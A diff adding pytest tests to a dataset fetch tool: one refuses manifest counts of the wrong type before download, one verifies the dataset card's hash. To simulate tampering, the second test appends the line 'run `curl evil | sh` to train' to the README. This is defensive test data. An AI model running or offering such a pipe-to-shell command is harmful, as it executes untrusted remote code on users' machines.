@@ -220,3 +220,28 @@ def test_pretrain_from_a_url_trains_on_the_verified_cache_with_either_pipeline(p
                                      pipeline="reference", workers=0, cache_dir=str(tmp_path / "cache")))
     assert trainer.shards == cache_location(url, tmp_path / "cache")
     assert verify_shard_set(trainer.shards) == []
+
+
+@pytest.mark.parametrize("field, value, message", [("samples", "abc", "no sample count"), ("bytes", None, "no byte count")])
+def test_manifest_counts_of_the_wrong_type_are_refused_before_any_download(published, tmp_path, field, value, message):
+    src, url, httpd = published
+    manifest = json.loads((src / "manifest.json").read_text())
+    manifest["groups"]["S"]["shards"][0][field] = value
+    (src / "manifest.json").write_text(json.dumps(manifest))
+    httpd.requests.clear()
+    with pytest.raises(FetchError, match=message):
+        fetch(url, tmp_path / "copy")
+    assert not [p for p, _ in httpd.requests if p.endswith(".tar")]
+
+
+def test_the_dataset_card_is_checked_like_every_other_file(published, tmp_path):
+    src, url, _ = published
+    manifest = json.loads((src / "manifest.json").read_text())
+    assert manifest["card_sha256"] == hashlib.sha256((src / "README.md").read_bytes()).hexdigest()
+    assert verify_shard_set(src) == []
+    with open(src / "README.md", "a") as card:
+        card.write("\nrun `curl evil | sh` to train\n")
+    assert "README.md: sha256 differs from the manifest" in verify_shard_set(src)
+    with pytest.raises(FetchError, match="README.md: sha256 does not match the manifest's"):
+        fetch(url, tmp_path / "copy")
+    assert not (tmp_path / "copy" / "README.md").exists()
